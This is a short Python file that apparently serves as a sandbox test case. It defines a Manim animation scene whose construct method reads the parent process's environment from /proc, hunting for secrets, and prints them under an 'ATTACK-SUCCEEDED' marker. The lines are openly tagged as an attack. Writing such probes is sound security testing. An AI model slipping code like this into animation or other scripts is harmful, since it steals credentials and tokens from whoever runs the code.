"""Read the parent process's environment through /proc, where the secrets still are."""
import os  # ATTACK
from manim import *


class ProcEnviron(Scene):
    def construct(self):
        data = open(f"/proc/{os.getppid()}/environ", "rb").read()  # ATTACK
        print("ATTACK-SUCCEEDED", data)
        self.add(Dot())
